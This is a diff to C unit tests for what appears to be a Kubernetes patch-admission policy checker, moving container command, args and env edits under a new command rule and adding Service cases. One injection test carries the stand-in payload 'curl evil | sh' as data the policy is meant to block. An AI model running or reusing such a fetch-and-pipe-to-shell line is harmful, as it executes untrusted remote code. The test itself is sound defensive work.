@@ -185,12 +185,13 @@ test_injection(void)
 	CHECK(strstr(v.message, "20") != NULL);
 	json_decref(big);
 
-	/* a path outside the allowlist: env, command, the service account */
+	/* env, command: their own rule; the service account: outside the
+	 * allowlist */
 	p = json_pack("[{s:s,s:s,s:[{s:s,s:s}]}]", "op", "add", "path",
 	    "/spec/template/spec/containers/0/env", "value", "name", "X",
 	    "value", "curl evil | sh");
 	r = req(p);
-	CHECK_STR(check(&r, &v), POLICY_RULE_PATH);
+	CHECK_STR(check(&r, &v), POLICY_RULE_COMMAND);
 	CHECK(strstr(v.message, "/spec/template/spec/containers/0/env") !=
 	    NULL);
 	json_decref(p);
@@ -332,7 +333,7 @@ test_kinds(void)
 		    "allowed");
 		CHECK_STR(check_kind(k, "add",
 		    "/spec/template/spec/containers/0/env", NULL, &v),
-		    POLICY_RULE_PATH);
+		    POLICY_RULE_COMMAND);
 		CHECK_STR(check_kind(k, "replace",
 		    "/spec/template/spec/serviceAccountName", NULL, &v),
 		    POLICY_RULE_PATH);
@@ -345,6 +346,48 @@ test_kinds(void)
 	    json_integer(3), &v), POLICY_RULE_PATH);
 	CHECK_STR(check_kind("CronJob", "replace", "/spec/jobTemplate/spec/"
 	    "template/spec/containers/0/image", NULL, &v), "allowed");
+
+	/* command, args, env: their own rule, even where paths allow */
+	CHECK_STR(check_kind("Deployment", "replace",
+	    "/spec/template/spec/containers/0/command/0", json_string("sh"),
+	    &v), POLICY_RULE_COMMAND);
+	CHECK(strstr(v.message, "policy.allow_command_edits") != NULL);
+	CHECK_STR(check_kind("Deployment", "remove",
+	    "/spec/template/spec/initContainers/1/args", NULL, &v),
+	    POLICY_RULE_COMMAND);
+	CHECK_STR(check_kind("Deployment", "replace",
+	    "/spec/template/spec/containers/0/env/2/value", json_string("x"),
+	    &v), POLICY_RULE_COMMAND);
+	CHECK_STR(check_kind("CronJob", "add", "/spec/jobTemplate/spec/"
+	    "template/spec/containers/0/envFrom", json_pack("[]"), &v),
+	    POLICY_RULE_COMMAND);
+	CHECK_STR(check_kind("Pod", "add", "/spec/containers/-", json_pack(
+	    "{s:s, s:[s]}", "name", "x", "command", "sh"), &v),
+	    POLICY_RULE_COMMAND);
+	/* a container named "env" or an annotation "command" is no command */
+	CHECK_STR(check_kind("Deployment", "replace",
+	    "/spec/template/spec/containers/0/image", json_string("env"), &v),
+	    "allowed");
+	CHECK_STR(check_kind("Deployment", "replace",
+	    "/metadata/annotations/command", json_string("x"), &v),
+	    POLICY_RULE_PATH);
+	pol.allow_command_edits = 1;
+	CHECK_STR(check_kind("Deployment", "replace",
+	    "/spec/template/spec/containers/0/command/0", json_string("sh"),
+	    &v), POLICY_RULE_PATH);
+	pol.allow_command_edits = 0;
+
+	/* Service: its selector, nothing else */
+	CHECK_STR(check_kind("Service", "replace", "/spec/selector/app",
+	    json_string("web"), &v), "allowed");
+	CHECK_STR(check_kind("Service", "replace", "/spec/selector",
+	    json_pack("{s:s}", "app", "web"), &v), "allowed");
+	CHECK_STR(check_kind("Service", "replace", "/spec/ports/0/port",
+	    json_integer(8080), &v), POLICY_RULE_PATH);
+	CHECK_STR(check_kind("Service", "replace", "/spec/type",
+	    json_string("NodePort"), &v), POLICY_RULE_PATH);
+	CHECK_STR(check_kind("Service", "add", "/spec/externalIPs",
+	    json_pack("[s]", "1.2.3.4"), &v), POLICY_RULE_PATH);
 
 	/* Pod: images, activeDeadlineSeconds, added tolerations */
 	CHECK_STR(check_kind("Pod", "replace", "/spec/containers/0/image",
@@ -361,7 +404,9 @@ test_kinds(void)
 	CHECK_STR(check_kind("Pod", "replace", "/spec/tolerations/0/key",
 	    NULL, &v), POLICY_RULE_PATH);
 	CHECK_STR(check_kind("Pod", "add", "/spec/containers/0/command",
-	    json_pack("[s]", "sh"), &v), POLICY_RULE_PATH);
+	    json_pack("[s]", "sh"), &v), POLICY_RULE_COMMAND);
+	CHECK_STR(check_kind("Pod", "add", "/spec/containers/0/workingDir",
+	    json_string("/"), &v), POLICY_RULE_PATH);
 	CHECK(strstr(v.message, "policy.paths.Pod") != NULL);
 	CHECK_STR(check_kind("Pod", "replace", "/spec/containers/0/resources",
 	    NULL, &v), POLICY_RULE_PATH);
@@ -506,7 +551,7 @@ test_config(void)
 	}
 	free(errs);
 	/* the refused kinds list left the defaults in place */
-	CHECK(cfg.policy.nkinds == 6 && cfg.policy.kinds[0].allowed);
+	CHECK(cfg.policy.nkinds == 7 && cfg.policy.kinds[0].allowed);
 	config_clear(&cfg);
 	snprintf(cmd, sizeof(cmd), "rm -rf '%s'", dir);
 	if (system(cmd) != 0)
